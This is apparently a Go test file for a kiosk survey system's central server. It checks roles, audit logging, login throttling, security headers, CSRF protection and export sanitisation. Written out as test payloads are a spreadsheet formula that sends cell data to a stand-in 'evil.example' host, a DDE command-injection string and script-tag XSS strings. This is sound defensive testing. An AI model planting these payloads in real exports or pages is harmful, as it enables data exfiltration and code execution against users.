package central_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gofiber/fiber/v2"

	"github.com/skmkiosk/skm/central"
	"github.com/skmkiosk/skm/survey"
)

var secPasswordRE = regexp.MustCompile(`<p><code>([^<]+)</code></p>`)

// secRoutes lists central's routes (they do not depend on the store).
func secRoutes(tb testing.TB) []fiber.Route {
	tb.Helper()
	srv, err := central.NewServer(central.DefaultConfig(), nil, central.Options{})
	if err != nil {
		tb.Fatal(err)
	}
	return central.SecurityRoutesOf(srv)
}

var paramRE = regexp.MustCompile(`:([a-z]+)\??`)

// secFill replaces a route's parameters with values that exist.
func secFill(path string, params map[string]string) string {
	path = strings.ReplaceAll(path, "*", "x")
	return paramRE.ReplaceAllStringFunc(path, func(m string) string { return params[strings.Trim(m, ":?")] })
}

// secHeaders checks the security headers every response must carry.
func secHeaders(tb testing.TB, what string, resp *http.Response) {
	tb.Helper()
	csp := resp.Header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "frame-ancestors 'none'") || !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") ||
		resp.Header.Get("X-Content-Type-Options") != "nosniff" || resp.Header.Get("Referrer-Policy") == "" {
		tb.Errorf("%s (%d): CSP %q, nosniff %q, Referrer-Policy %q", what, resp.StatusCode, csp,
			resp.Header.Get("X-Content-Type-Options"), resp.Header.Get("Referrer-Policy"))
	}
}

// secCreateUser creates an account through the users page and returns its first password.
func secCreateUser(tb testing.TB, admin *browser, v url.Values) string {
	tb.Helper()
	resp, page := admin.MustPost(tb, "/admin/users", v)
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Cache-Control") != "no-store" {
		tb.Fatalf("create %v: %d (Cache-Control %q)\n%s", v, resp.StatusCode, resp.Header.Get("Cache-Control"), clip(page))
	}
	m := secPasswordRE.FindStringSubmatch(page)
	if m == nil {
		tb.Fatalf("no first password shown:\n%s", clip(page))
	}
	return m[1]
}

// secLogin posts the login form from a new client and returns the status.
func secLogin(tb testing.TB, base, username, password string) (int, *browser) {
	tb.Helper()
	b := &browser{base: base, hc: newSecClient(tb, nil)}
	_, page := b.MustGet(tb, "/login", http.StatusOK)
	m := csrfField.FindStringSubmatch(page)
	if m == nil {
		tb.Fatal("no CSRF token on the login page")
	}
	resp, _ := b.MustPost(tb, "/login", url.Values{"csrf": {m[1]}, "username": {username}, "password": {password}})
	if resp.StatusCode == http.StatusSeeOther {
		_, page = b.MustGet(tb, "/account/password", http.StatusOK)
		if m := csrfField.FindStringSubmatch(page); m != nil {
			b.csrf = m[1]
		}
	}
	return resp.StatusCode, b
}

func TestCentralAccountsRolesAndAudit(t *testing.T) {
	rs := MustStartReportServer(t, openSQLite)
	other := survey.Office{Name: "Dinas Lain"}
	if err := rs.Store.CreateOffice(context.Background(), &other); err != nil {
		t.Fatal(err)
	}
	admin := rs.MustLogin(t, "admin1", survey.RoleAdmin, 0, "")
	office := strconv.FormatInt(rs.Office.ID, 10)

	// A kepala needs an office; a role outside central's is refused.
	for _, v := range []url.Values{{"username": {"kepala1"}, "role": {"kepala"}}, {"username": {"loket1"}, "role": {"counter"}}} {
		resp, page := admin.MustPost(t, "/admin/users", v)
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("create %v: %d, want 400\n%s", v, resp.StatusCode, clip(page))
		}
	}
	pwKepala := secCreateUser(t, admin, url.Values{"username": {"kepala1"}, "role": {"kepala"}, "office": {office}})
	pwViewer := secCreateUser(t, admin, url.Values{"username": {"viewer1"}, "role": {"viewer"}})

	status, kepala := secLogin(t, rs.URL, "kepala1", pwKepala)
	if status != http.StatusSeeOther {
		t.Fatalf("kepala login: %d", status)
	}
	kepala.MustGet(t, "/admin/offices/"+office+"/staff", http.StatusOK)
	kepala.MustGet(t, "/admin/offices/"+strconv.FormatInt(other.ID, 10)+"/staff", http.StatusForbidden)
	kepala.MustGet(t, "/admin/users", http.StatusForbidden)
	_, viewer := secLogin(t, rs.URL, "viewer1", pwViewer)
	viewer.MustGet(t, "/admin/users", http.StatusForbidden)
	viewer.MustGet(t, "/admin/audit", http.StatusForbidden)
	viewer.MustGet(t, "/admin/audit.csv", http.StatusForbidden)

	users, err := rs.Store.FindUsers(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	id := map[string]string{}
	for _, u := range users {
		id[u.Username] = strconv.FormatInt(u.ID, 10)
		if u.Username == "kepala1" && u.OfficeID != rs.Office.ID {
			t.Errorf("kepala bound to office %d, want %d", u.OfficeID, rs.Office.ID)
		}
	}
	// Deactivate ends the viewer's session; a reset replaces the kepala's password.
	resp, _ := admin.MustPost(t, "/admin/users/"+id["viewer1"]+"/active", url.Values{"active": {"0"}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("deactivate: %d", resp.StatusCode)
	}
	resp, _ = viewer.MustGet(t, "/admin", 0)
	if resp.StatusCode != http.StatusSeeOther {
		t.Errorf("a deactivated account's session still works: %d", resp.StatusCode)
	}
	resp, page := admin.MustPost(t, "/admin/users/"+id["kepala1"]+"/reset", url.Values{})
	m := secPasswordRE.FindStringSubmatch(page)
	if resp.StatusCode != http.StatusOK || m == nil {
		t.Fatalf("reset: %d", resp.StatusCode)
	}
	if st, _ := secLogin(t, rs.URL, "kepala1", pwKepala); st != http.StatusUnauthorized {
		t.Errorf("old password after a reset: %d", st)
	}
	// Every user changes their own password.
	_, kepala = secLogin(t, rs.URL, "kepala1", m[1])
	resp, _ = kepala.MustPost(t, "/account/password", url.Values{"current": {m[1]}, "password": {"kepala-baru-123"}, "password2": {"kepala-baru-123"}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("change own password: %d", resp.StatusCode)
	}
	if st, _ := secLogin(t, rs.URL, "kepala1", "kepala-baru-123"); st != http.StatusSeeOther {
		t.Errorf("login with the changed password: %d", st)
	}

	// The audit log: viewable, exportable with formulas neutralised, not editable.
	resp, _ = admin.MustPost(t, "/admin/offices", url.Values{"name": {`=HYPERLINK("http://evil","x") <script>alert(1)</script>`}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("create office: %d", resp.StatusCode)
	}
	_, page = admin.MustGet(t, "/admin/audit", http.StatusOK)
	for _, want := range []string{"user_create", "user_active", "user_reset_password", "password_change", "office_create", "&lt;script&gt;"} {
		if !strings.Contains(page, want) {
			t.Errorf("audit page lacks %q", want)
		}
	}
	if strings.Contains(page, "<script>alert(1)") {
		t.Error("audit page shows markup unescaped")
	}
	resp, body := admin.MustGet(t, "/admin/audit.csv", http.StatusOK)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) < 5 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("audit CSV: %d rows (%v)", len(rows), err)
	}
	secNoFormulas(t, "audit.csv", rows)
	for _, method := range []string{http.MethodPost, http.MethodPut, http.MethodDelete} {
		req, _ := http.NewRequest(method, rs.URL+"/admin/audit", strings.NewReader("csrf="+admin.csrf))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if resp, _ := MustDo(t, admin.hc, req); resp.StatusCode != http.StatusMethodNotAllowed && resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s /admin/audit: %d, want 404 or 405", method, resp.StatusCode)
		}
	}
}

// secNoFormulas fails when a CSV cell would run as a spreadsheet formula.
func secNoFormulas(tb testing.TB, what string, rows [][]string) {
	tb.Helper()
	for i, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					tb.Errorf("%s row %d: cell %q starts a formula", what, i+1, cell)
				}
			}
		}
	}
}

// Central shares the kiosk's login throttling (web.Auth): a wait that grows
// per account and per address, never a lock.
func TestCentralLoginThrottle(t *testing.T) {
	rs := MustStartReportServer(t, openSQLite)
	admin := rs.MustLogin(t, "admin1", survey.RoleAdmin, 0, "")
	pw := secCreateUser(t, admin, url.Values{"username": {"viewer1"}, "role": {"viewer"}})
	for i := range 6 {
		if st, _ := secLogin(t, rs.URL, "viewer1", "salah-"+strconv.Itoa(i)+"-tebakan"); st != http.StatusUnauthorized {
			t.Fatalf("wrong password %d: %d", i+1, st)
		}
	}
	if st, _ := secLogin(t, rs.URL, "viewer1", pw); st != http.StatusTooManyRequests {
		t.Errorf("right password during the wait: %d, want 429", st)
	}
	rs.Clock.Set(reportNow.Add(time.Second))
	if st, _ := secLogin(t, rs.URL, "viewer1", pw); st != http.StatusSeeOther {
		t.Errorf("after the wait: %d", st)
	}
	rs.Clock.Set(reportNow.Add(2 * time.Hour))
	for i := range 21 {
		if st, _ := secLogin(t, rs.URL, "nobody-"+strconv.Itoa(i), "salah-salah-salah"); st != http.StatusUnauthorized {
			t.Fatalf("unknown user %d: %d", i+1, st)
		}
	}
	if st, _ := secLogin(t, rs.URL, "viewer1", pw); st != http.StatusTooManyRequests {
		t.Errorf("right password from an address that failed 21 times: %d, want 429", st)
	}
}

func TestCentralEveryRouteHeadersAndCSRF(t *testing.T) {
	rs := MustStartReportServer(t, openSQLite)
	rs.MustIngestRatings(t, nipSiti, "KIA", reportNow.AddDate(0, 0, -5), time.Hour, repeatRatings(6, all(4)), nil)
	admin := rs.MustLogin(t, "admin1", survey.RoleAdmin, 0, "")
	anon := &browser{base: rs.URL, hc: newSecClient(t, nil)}
	params := map[string]string{"office": strconv.FormatInt(rs.Office.ID, 10), "nip": nipSiti, "id": "1", "table": "staff", "ext": "csv"}
	n := 0
	for _, r := range secRoutes(t) {
		path := secFill(r.Path, params)
		switch r.Method {
		case http.MethodGet:
			for who, b := range map[string]*browser{"anonymous": anon, "admin": admin} {
				resp, _ := b.MustGet(t, path, 0)
				secHeaders(t, who+" GET "+r.Path, resp)
				n++
			}
		case http.MethodPost:
			resp, body := admin.MustPost(t, path, url.Values{"csrf": {"nope"}, "name": {"x"}})
			secHeaders(t, "POST "+r.Path, resp)
			// The public verification page's upload needs no session and changes nothing: no CSRF to guard.
			if !strings.HasPrefix(r.Path, "/api/") && !strings.HasPrefix(r.Path, "/publik/") && resp.StatusCode != http.StatusForbidden {
				t.Errorf("POST %s without a valid CSRF token: %d, want 403\n%s", r.Path, resp.StatusCode, clip(body))
			}
			n++
		}
	}
	if n < 40 {
		t.Errorf("only %d requests; the route walk is broken", n)
	}
}

func TestCentralBodyLimits(t *testing.T) {
	rs := MustStartReportServer(t, openSQLite)
	admin := rs.MustLogin(t, "admin1", survey.RoleAdmin, 0, "")
	big := strings.Repeat("x", 100<<10)
	for _, path := range []string{"/login", "/setup", "/admin/offices", "/admin/users", "/account/password", "/api/v1/integrity"} {
		resp, _ := admin.MustPost(t, path, url.Values{"name": {big}})
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("POST %s with 100 KiB: %d, want 413", path, resp.StatusCode)
		}
	}
}

func TestCentralCommentMarkupAndFormulasInert(t *testing.T) {
	rs := MustStartReportServer(t, openSQLite)
	const xss, formula = `<script>alert("xss")</script>`, `=HYPERLINK("http://evil.example/?d="&A1,"klik")`
	payloads := []string{xss, formula, "@SUM(1+1)*cmd|' /C calc'!A0", "+62 812", "-1+1"}
	i := 0
	rs.MustIngestRatings(t, nipSiti, "KIA", time.Date(2031, 3, 20, 9, 0, 0, 0, wib), time.Hour, repeatRatings(12, all(3)), func(r *survey.Response) { // March: settled
		r.Comment = payloads[i%len(payloads)]
		i++
	})
	admin := rs.MustLogin(t, "admin1", survey.RoleAdmin, 0, "")
	params := map[string]string{"office": strconv.FormatInt(rs.Office.ID, 10), "nip": nipSiti, "id": "1", "table": "staff", "ext": "csv"}
	shown := false
	for _, r := range secRoutes(t) {
		if r.Method != http.MethodGet || strings.HasPrefix(r.Path, "/api/v1/sync") {
			continue
		}
		resp, body := admin.MustGet(t, secFill(r.Path, params), 0)
		ct := resp.Header.Get("Content-Type")
		switch {
		case strings.HasPrefix(ct, "text/html"):
			if strings.Contains(body, xss) {
				t.Errorf("%s shows the comment's markup unescaped", r.Path)
			}
			shown = shown || strings.Contains(body, "&lt;script&gt;alert(&#34;xss&#34;)&lt;/script&gt;")
		case strings.HasPrefix(ct, "text/csv"):
			rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil {
				t.Errorf("%s: %v", r.Path, err)
			}
			secNoFormulas(t, r.Path, rows)
			shown = shown || strings.Contains(body, "'"+formula[:10])
		case strings.Contains(ct, "spreadsheetml"):
			secNoXLSXFormulas(t, r.Path, []byte(body))
		}
	}
	// The person page and its evidence export, where comments appear.
	for _, path := range []string{"/admin/reports/" + params["office"] + "/staff/" + nipSiti, "/admin/reports/" + params["office"] + "/staff/" + nipSiti + "/evidence"} {
		_, page := admin.MustGet(t, path, http.StatusOK)
		if strings.Contains(page, xss) {
			t.Errorf("%s shows the comment's markup unescaped", path)
		}
		shown = shown || strings.Contains(page, "&lt;script&gt;")
	}
	resp, body := admin.MustGet(t, "/admin/reports/"+params["office"]+"/staff/"+nipSiti+"/evidence.csv", http.StatusOK)
	if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		rows, _ := csv.NewReader(strings.NewReader(body)).ReadAll()
		secNoFormulas(t, "evidence.csv", rows)
	}
	if !shown {
		t.Error("no page or export showed the comments at all: the test proves nothing")
	}
}

// secNoXLSXFormulas fails when a workbook holds a formula cell.
func secNoXLSXFormulas(tb testing.TB, what string, data []byte) {
	tb.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		tb.Errorf("%s: not a workbook: %v", what, err)
		return
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			tb.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			tb.Errorf("%s: %s holds a formula cell", what, f.Name)
		}
	}
}
